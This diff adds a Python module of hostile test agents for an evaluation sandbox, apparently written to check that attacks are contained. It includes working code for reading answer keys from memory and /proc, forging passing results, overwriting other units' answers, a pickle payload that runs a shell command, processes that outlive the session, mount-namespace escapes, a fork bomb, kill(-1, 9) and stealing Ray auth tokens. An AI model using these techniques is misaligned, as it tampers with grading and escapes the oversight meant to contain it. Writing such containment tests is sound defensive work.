@@ -1,0 +1,372 @@
+"""Hostile agents: each tries one class of attack from inside its unit and reports what it got.
+
+Each answers ``{"value": <what it found>}``: the evals it runs on grade ``value`` against a
+secret number, so an attack that reaches an answer key turns a failing unit into a passing
+one. Every agent also says in its metadata what it tried, so that a test can tell an attack
+that was stopped from one that never ran.
+"""
+from __future__ import annotations
+
+import gc
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+MARKER = "SECRET-ANSWER-KEY"  # eval files under attack carry it in their grader config
+
+
+def _key_in(text: str) -> float | None:
+    """The answer key of an eval file's text, if ``text`` is one."""
+    if MARKER not in text:
+        return None
+    try:
+        body = json.loads(text)
+        return float(body["grader"]["config"]["ground_truth"]["value"])
+    except (ValueError, KeyError, TypeError):
+        return None
+
+
+def _answer(found: float | None, **tried: Any) -> dict:
+    return {"answer": {"value": found if found is not None else -1.0}, "metadata": {"attack": tried}}
+
+
+def _walk_for_keys(roots: list[str], limit: int = 20000) -> tuple[float | None, int]:
+    """Search folders for an eval file holding a key: (key, files looked at)."""
+    seen = 0
+    for root in roots:
+        for folder, dirs, files in os.walk(root):
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+            for name in files:
+                if not name.endswith(".json"):
+                    continue
+                seen += 1
+                if seen > limit:
+                    return None, seen
+                try:
+                    key = _key_in(Path(folder, name).read_text(errors="replace")[:100000])
+                except OSError:
+                    continue
+                if key is not None:
+                    return key, seen
+    return None, seen
+
+
+def memory(task_prompt: str, work_dir: Path) -> dict:
+    """Look for evals and grader configs in this process's memory and its callers' frames."""
+    import inspect
+
+    found = None
+    objects = 0
+    for obj in gc.get_objects():
+        objects += 1
+        if isinstance(obj, dict) and "ground_truth" in obj and isinstance(obj.get("ground_truth"), dict):
+            value = obj["ground_truth"].get("value")
+            if isinstance(value, (int, float)):
+                found = float(value)
+                break
+        if type(obj).__name__ == "Eval":
+            try:
+                found = float(obj.grader.config["ground_truth"]["value"])
+                break
+            except (AttributeError, KeyError, TypeError):
+                pass
+    frames = len(inspect.stack())
+    return _answer(found, objects=objects, frames=frames)
+
+
+def processes(task_prompt: str, work_dir: Path) -> dict:
+    """Read other processes' command lines, working folders and environments for the way to
+    the evals folder and for secrets; then search the folders found and the temp folder."""
+    secret = os.environ.get("RAYEVAL_TEST_HUNTED_SECRET", "")  # the value hunted, not a way to it
+    leads: set[str] = set()
+    pids = [p for p in os.listdir("/proc") if p.isdigit()]
+    leaked = False
+    for pid in pids:
+        for what in ("cmdline", "environ"):
+            try:
+                raw = Path(f"/proc/{pid}/{what}").read_bytes()
+            except OSError:
+                continue
+            if secret and secret.encode() in raw:
+                leaked = True
+            for part in raw.split(b"\0"):
+                text = part.decode(errors="replace").split("=", 1)[-1]
+                if text.startswith("/") and os.path.isdir(text):
+                    leads.add(text)
+        try:
+            leads.add(os.readlink(f"/proc/{pid}/cwd"))
+        except OSError:
+            pass
+    leads.discard("/")
+    found, looked = _walk_for_keys(sorted(leads) + ["/tmp"])
+    return _answer(found, processes=len(pids), leads=len(leads), looked=looked, leaked_secret=leaked)
+
+
+def forge_results(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Write a Parquet part claiming every unit of the run passed into the results root (the
+    test names it, as an agent that found it by searching would know it)."""
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    root = Path(context.args["results"])
+    written, error = 0, None
+    if not root.exists():
+        return _answer(None, written=0, error=None, root_visible=False)
+    try:
+        for run in root.glob("run_id=*"):
+            for model in run.glob("model=*"):
+                existing = next(model.glob("*.parquet"), None)
+                table = pq.read_table(existing) if existing else None
+                if table is None:
+                    continue
+                forged = table.set_column(table.schema.get_field_index("passed"), "passed", pa.array([True] * len(table)))
+                forged = forged.set_column(forged.schema.get_field_index("attempt"), "attempt", pa.array([99] * len(table), pa.int64()))
+                pq.write_table(forged, model / "part-forged.parquet")
+                written += 1
+        (root / f"run_id={context.run_id}" / "_manifest.json").write_text("{}")
+        written += 1
+    except OSError as exc:
+        error = f"{type(exc).__name__}: {exc}"
+    return _answer(None, written=written, error=error, root_visible=True)
+
+
+def forge_neighbours(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """The victim (seed 1) answers wrong in its answer file and waits; the attacker (seed 2)
+    writes the right answer (named by the test) into every other unit's answer file."""
+    if context.seed == 1:
+        (work_dir / "eval_answer.json").write_text(json.dumps({"value": -1.0}))
+        time.sleep(float(context.args.get("victim_wait", "3")))
+        return {"answer": None, "metadata": {"attack": {"role": "victim"}}}
+    time.sleep(0.5)
+    overwritten, folders = 0, 0
+    for parent in list(work_dir.parents)[:4]:
+        try:
+            for answer in parent.rglob("eval_answer.json"):
+                if work_dir not in answer.parents:
+                    answer.write_text(json.dumps({"value": float(context.args["key"])}))
+                    overwritten += 1
+            folders += 1
+        except OSError:
+            continue
+    return _answer(None, role="attacker", overwritten=overwritten, folders=folders)
+
+
+class _Hostile:
+    """Unpickling this anywhere runs code: it writes the file the test looks for."""
+
+    def __init__(self, marker: str):
+        self.marker = marker
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.marker}",))
+
+
+def hostile_object(task_prompt: str, work_dir: Path, context: Any) -> Any:
+    """Return an object whose unpickling would run code in the process that receives it."""
+    return {"answer": {"value": _Hostile(context.args["marker"])}, "metadata": {"attack": {"returned": "object"}}}
+
+
+def poison_inputs(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Seed 1 rewrites its staged input in place (restoring size and mtime) and the cache
+    entry behind it if it can reach it; seed 2 (started after it) reports the bytes it sees."""
+    staged = next((work_dir / "data").iterdir())
+    if context.seed == 2:
+        return _answer(None, content=staged.read_text())
+    outcomes = {}
+    targets = [staged]
+    cache = context.args.get("cache")
+    if cache:
+        targets += [p for p in Path(cache).rglob("payload")]
+    for target in targets:
+        try:
+            info = target.stat()
+            os.chmod(target, 0o644)
+            data = target.read_bytes()
+            target.write_bytes(b"X" * len(data))
+            os.utime(target, ns=(info.st_atime_ns, info.st_mtime_ns))
+            outcomes[str(target)] = "rewritten"
+        except OSError as exc:
+            outcomes[str(target)] = type(exc).__name__
+    return _answer(None, outcomes=outcomes)
+
+
+def outlive(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Leave a process in a new session, with a clean environment, that reports to the test's
+    server every 0.1 s for a minute; then hang until the unit's timeout."""
+    port = int(context.args["port"])
+    code = (
+        "import socket, time\n"
+        "for _ in range(600):\n"
+        "    try:\n"
+        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).close()\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    time.sleep(0.1)\n"
+    )
+    subprocess.Popen([sys.executable, "-c", code], start_new_session=True, env={}, stdin=subprocess.DEVNULL,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+    if os.fork() == 0:  # and a double-forked one
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, "-c", code])
+        os._exit(0)
+    time.sleep(600)
+    return _answer(None)
+
+
+def escape_mounts(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Try to uncover hidden folders: unmount the cover in a fresh user and mount namespace,
+    remount read-only folders writable, and write where the results are kept."""
+    target = context.args["hidden"]
+    script = (
+        f"umount {target} 2>&1; ls {target} 2>&1 | head -3; "
+        f"mount -o remount,rw / 2>&1; touch /usr/rayeval-escape 2>&1"
+    )
+    attempts = {}
+    for name, argv in {
+        "plain": ["sh", "-c", script],
+        "userns": ["unshare", "-Urm", "sh", "-c", script],
+    }.items():
+        run = subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False)
+        attempts[name] = run.stdout + run.stderr
+    found, looked = _walk_for_keys([target])
+    return _answer(found, attempts=attempts, looked=looked, escaped=Path("/usr/rayeval-escape").exists())
+
+
+def exhaust(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """One of: a fork bomb, a memory hog, a huge file, a huge answer (``--agent-arg kind=``)."""
+    kind = context.args["kind"]
+    if kind == "fork":
+        children = 0
+        try:
+            for _ in range(100000):
+                if os.fork() == 0:
+                    time.sleep(30)
+                    os._exit(0)
+                children += 1
+        except OSError as exc:
+            return _answer(None, children=children, stopped=type(exc).__name__)
+        return _answer(None, children=children, stopped=None)
+    if kind == "memory":
+        hoard = []
+        try:
+            for _ in range(64):
+                hoard.append(bytearray(512 << 20))
+        except MemoryError:
+            return _answer(None, allocated_mb=512 * len(hoard), stopped="MemoryError")
+        return _answer(None, allocated_mb=512 * len(hoard), stopped=None)
+    if kind == "file":
+        written = 0
+        try:
+            with open(work_dir / "big.bin", "wb") as out:
+                for _ in range(1 << 14):
+                    out.write(b"\0" * (1 << 20))
+                    written += 1
+        except OSError as exc:
+            return _answer(None, written_mb=written, stopped=type(exc).__name__)
+        return _answer(None, written_mb=written, stopped=None)
+    if kind == "answer":
+        return {"answer": {"value": -1.0, "padding": "x" * (64 << 20)}}
+    raise ValueError(kind)
+
+
+def kill_everything(task_prompt: str, work_dir: Path) -> dict:
+    """Signal every process it can see, if it sees only its own (else it reports the leak)."""
+    visible = [p for p in os.listdir("/proc") if p.isdigit()]
+    if len(visible) > 20:
+        return _answer(None, visible=len(visible), killed=False)
+    os.kill(-1, 9)
+    return _answer(None, visible=len(visible), killed=True)
+
+
+def symlinks(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Point the files the harness reads back (answer, trajectory, log, the reference's
+    workspace folder) at files outside the work folder: the eval file with its key."""
+    target = context.args["eval_file"]
+    (work_dir / "trajectory.json").symlink_to(target)
+    (work_dir / "agent_output.log").symlink_to("/etc/hostname")
+    (work_dir / "agent_workspace").symlink_to(str(Path(target).parent))
+    (work_dir / "eval_answer.json").symlink_to(target)
+    return {"answer": None, "metadata": {"attack": {"symlinks": 4}}}
+
+
+def control_plane(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """Join the Ray cluster the worker belongs to (the test names its address, as a port scan
+    would find it) and run a task there, outside the sandbox, that searches for answer keys."""
+    import threading
+
+    os.environ["RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER"] = "0"  # a loopback address stays loopback
+    for candidate in [Path("/root/.ray/auth_token"), *Path("/home").glob("*/.ray/auth_token")]:
+        try:
+            os.environ["RAY_AUTH_TOKEN"] = candidate.read_text().strip()  # the token, if in reach
+            os.environ["RAY_AUTH_MODE"] = "token"
+            break
+        except OSError:
+            continue
+    import ray  # after the environment: Ray reads it when it loads
+
+    outcome: dict[str, Any] = {}
+
+    def join() -> None:
+        try:
+            ray.init(address=context.args["address"], log_to_driver=False, configure_logging=False)
+            outcome["joined"] = True
+        except Exception as exc:  # noqa: BLE001 - the attack failed: report how
+            outcome["error"] = f"{type(exc).__name__}: {str(exc)[:300]}"
+
+    thread = threading.Thread(target=join, daemon=True)
+    thread.start()
+    thread.join(float(context.args.get("join_s", "30")))
+    if not outcome.get("joined"):
+        return _answer(None, joined=False, error=outcome.get("error", "no answer from the cluster"))
+    try:
+        def search(root: str) -> tuple[float | None, int]:  # sent by value: it runs outside the unit
+            import json as json_
+            import os as os_
+
+            looked = 0
+            for folder, _, files in os_.walk(root):
+                for name in files:
+                    looked += 1
+                    try:
+                        with open(os_.path.join(folder, name)) as handle:
+                            body = json_.loads(handle.read())
+                        return float(body["grader"]["config"]["ground_truth"]["value"]), looked
+                    except (OSError, ValueError, KeyError, TypeError):
+                        continue
+            return None, looked
+
+        found, looked = ray.get(ray.remote(search).remote(context.args["evals"]), timeout=60)
+    except Exception as exc:  # noqa: BLE001
+        return _answer(None, joined=True, error=f"{type(exc).__name__}: {str(exc)[:300]}")
+    finally:
+        ray.shutdown()
+    return _answer(found, joined=True, looked=looked)
+
+
+def honest(task_prompt: str, work_dir: Path, context: Any) -> dict:
+    """What an honest agent needs: read its inputs, write its work folder and /tmp, run
+    subprocesses, call a loopback HTTP server (``--agent-arg url=``)."""
+    import hashlib
+    import urllib.request
+
+    staged = sorted((work_dir / "data").iterdir())
+    digest = hashlib.sha256(staged[0].read_bytes()).hexdigest() if staged else None
+    (work_dir / "notes.txt").write_text("scratch")
+    Path("/tmp/scratch.txt").write_text("tmp works") if os.access("/tmp", os.W_OK) else None
+    echo = subprocess.run(["sh", "-c", "echo from-a-subprocess; python3 -c 'print(6*7)'"], capture_output=True, text=True, check=True).stdout
+    served = None
+    if "url" in context.args:
+        with urllib.request.urlopen(context.args["url"], timeout=10) as response:
+            served = response.read().decode()
+    socket.gethostname()
+    return {
+        "answer": {"value": float(context.args.get("value", "-1"))},
+        "metadata": {"seen": {"input_sha256": digest, "echo": echo, "served": served, "home": os.environ.get("HOME"),
+                              "tmp": Path("/tmp/scratch.txt").read_text() if Path("/tmp/scratch.txt").exists() else None}},
+    }  # fmt: skip
